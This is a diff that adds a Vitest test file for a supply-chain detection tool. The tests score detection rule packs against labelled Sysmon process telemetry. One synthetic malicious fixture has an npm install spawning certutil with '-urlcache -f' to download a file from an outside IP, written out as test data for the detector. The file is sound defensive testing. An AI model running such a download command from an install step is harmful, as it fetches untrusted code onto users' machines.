@@ -1,0 +1,109 @@
+import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { loadPacks } from '../../src/alerts/pack.js';
+import { ConfigError } from '../../src/config/index.js';
+import { parseLabels } from '../../src/eval/labels.js';
+import { renderReport, score } from '../../src/eval/report.js';
+import { evaluate } from '../../src/eval/run.js';
+import { runCli } from '../helpers/cli.js';
+
+function problems(text: string): string[] {
+  try {
+    parseLabels(text, 'labels.yaml');
+    return [];
+  } catch (err) {
+    if (err instanceof ConfigError) return err.problems.map((p) => `${p.line}:${p.column} ${p.reason}`);
+    throw err;
+  }
+}
+
+const sysmon = (fields: Record<string, unknown>) => JSON.stringify({ Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'WS1', ...fields });
+
+describe('labels.yaml', () => {
+  it('maps files to verdicts, with optional notes', () => {
+    const labels = parseLabels('a.ndjson: malicious\nsub/b.ndjson:\n  label: benign\n  notes: git clone\n', 'labels.yaml');
+    expect(labels).toEqual([
+      { file: 'a.ndjson', label: 'malicious', notes: undefined, line: 1 },
+      { file: 'sub/b.ndjson', label: 'benign', notes: 'git clone', line: 2 },
+    ]);
+  });
+
+  it('rejects bad verdicts, unknown keys and paths outside the corpus, with positions', () => {
+    expect(problems('a.ndjson: evil\n../x.ndjson: benign\nb.ndjson:\n  label: benign\n  note: x\n')).toEqual([
+      '1:11 label of \'a.ndjson\' must be malicious or benign',
+      "2:1 '../x.ndjson' must be a path inside the corpus folder",
+      "5:3 unknown key 'note' (expected label, notes)",
+    ]);
+    expect(problems('- a.ndjson\n')).toEqual(['1:1 labels.yaml must map telemetry files to malicious or benign']);
+  });
+});
+
+describe('evaluate', () => {
+  it('scores each pack per file and per rule, and lists unlabelled and missing files', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'sw-eval-'));
+    mkdirSync(join(dir, 'm'));
+    // npm on Windows runs a script through cmd.exe that starts certutil: both packs see it.
+    writeFileSync(join(dir, 'm', 'certutil.ndjson'), [
+      sysmon({ EventID: 1, UtcTime: '2026-01-01 10:00:00.000', ProcessGuid: '{a-1}', ProcessId: 10, Image: 'C:\\Program Files\\nodejs\\node.exe', CommandLine: '"C:\\Program Files\\nodejs\\node.exe" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install', ParentProcessGuid: '{a-0}', ParentProcessId: 5, ParentImage: 'C:\\Windows\\explorer.exe' }),
+      sysmon({ EventID: 1, UtcTime: '2026-01-01 10:00:01.000', ProcessGuid: '{a-2}', ProcessId: 11, Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /d /s /c "node i.js"', ParentProcessGuid: '{a-1}', ParentProcessId: 10, ParentImage: 'C:\\Program Files\\nodejs\\node.exe' }),
+      sysmon({ EventID: 1, UtcTime: '2026-01-01 10:00:02.000', ProcessGuid: '{a-3}', ProcessId: 12, Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://203.0.113.1/x x', ParentProcessGuid: '{a-2}', ParentProcessId: 11, ParentImage: 'C:\\Windows\\System32\\cmd.exe' }),
+    ].join('\n') + '\n');
+    // A benign native build: the seed's node → cmd.exe arm fires, the hardened pack does not.
+    writeFileSync(join(dir, 'gyp.ndjson'), [
+      sysmon({ EventID: 1, UtcTime: '2026-01-01 11:00:00.000', ProcessGuid: '{b-1}', ProcessId: 20, Image: 'C:\\Program Files\\nodejs\\node.exe', CommandLine: '"C:\\Program Files\\nodejs\\node.exe" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" ci', ParentProcessGuid: '{b-0}', ParentProcessId: 5, ParentImage: 'C:\\Windows\\explorer.exe' }),
+      sysmon({ EventID: 1, UtcTime: '2026-01-01 11:00:01.000', ProcessGuid: '{b-2}', ProcessId: 21, Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /d /s /c "node-gyp rebuild"', ParentProcessGuid: '{b-1}', ParentProcessId: 20, ParentImage: 'C:\\Program Files\\nodejs\\node.exe' }),
+    ].join('\n') + '\n');
+    writeFileSync(join(dir, 'stray.ndjson'), sysmon({ EventID: 1, UtcTime: '2026-01-01 12:00:00.000' }) + '\n');
+    const labels = parseLabels('m/certutil.ndjson: malicious\ngyp.ndjson: benign\ngone.ndjson: benign\n', 'labels.yaml');
+    const { packs } = await loadPacks(['seed', 'hardened']);
+    const result = await evaluate(dir, labels, packs);
+
+    expect(result.missing.map((m) => m.file)).toEqual(['gone.ndjson']);
+    expect(result.unlabelled).toEqual(['stray.ndjson']);
+    const [seed, hardened] = score(result);
+    expect(seed).toMatchObject({ pack: 'seed', maliciousDetected: 1, maliciousTotal: 1, benignFilesAlerted: 1, benignTotal: 1 });
+    expect(hardened).toMatchObject({ pack: 'hardened', maliciousDetected: 1, maliciousTotal: 1, benignAlerts: 0, benignFilesAlerted: 0 });
+    expect(hardened!.rules.map((r) => r.title)).toContain('Suspicious Execution Inside a Package Install Subtree');
+
+    const text = renderReport(result);
+    expect(text).toContain('| seed | 1 / 1 |');
+    expect(text).toContain('| hardened | 1 / 1 | 0 | 0 / 1 |');
+    expect(text).toMatch(/benign\s+gyp\.ndjson[\s\S]*seed\s+FALSE POSITIVE[\s\S]*hardened\s+quiet/);
+    expect(text).toContain('unlabelled stray.ndjson');
+  });
+});
+
+describe('supplywatch eval (CLI) on the repository corpus', () => {
+  it('the hardened pack detects every malicious sample with no alert on benign ones; the seed does not', async () => {
+    const res = await runCli(['eval', 'eval-corpus', '--format', 'json']);
+    expect(res.status, res.stderr).toBe(0);
+    const out = JSON.parse(res.stdout) as { scores: Array<{ pack: string; maliciousDetected: number; maliciousTotal: number; benignAlerts: number }>; unlabelled: string[]; missing: unknown[] };
+    expect(out.missing).toEqual([]);
+    expect(out.unlabelled).toEqual([]);
+    const hardened = out.scores.find((s) => s.pack === 'hardened')!;
+    const seed = out.scores.find((s) => s.pack === 'seed')!;
+    expect(hardened.maliciousTotal).toBeGreaterThanOrEqual(12);
+    expect(hardened.maliciousDetected).toBe(hardened.maliciousTotal);
+    expect(hardened.benignAlerts).toBe(0);
+    expect(seed.maliciousDetected).toBeLessThan(seed.maliciousTotal);
+    expect(seed.benignAlerts).toBeGreaterThan(0);
+  });
+
+  it('without the corpus tuning the internal-mirror install alerts (the config is what makes it quiet)', async () => {
+    const res = await runCli(['eval', 'eval-corpus', '--config', 'none', '--rules', 'hardened', '--format', 'json']);
+    expect(res.status, res.stderr).toBe(0);
+    const out = JSON.parse(res.stdout) as { files: Array<{ file: string; packs: Array<{ alerts: number }> }> };
+    const mirror = out.files.find((f) => f.file === 'benign/internal-mirror-install-linux.ndjson')!;
+    expect(mirror.packs[0]!.alerts).toBeGreaterThan(0);
+  });
+
+  it('rejects a bad labels file with its position and exit status 2', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'sw-eval-bad-'));
+    writeFileSync(join(dir, 'labels.yaml'), 'x.ndjson: maybe\n');
+    const res = await runCli(['eval', dir]);
+    expect(res.status).toBe(2);
+    expect(res.stderr).toContain('labels.yaml:1:11: label of');
+  });
+});
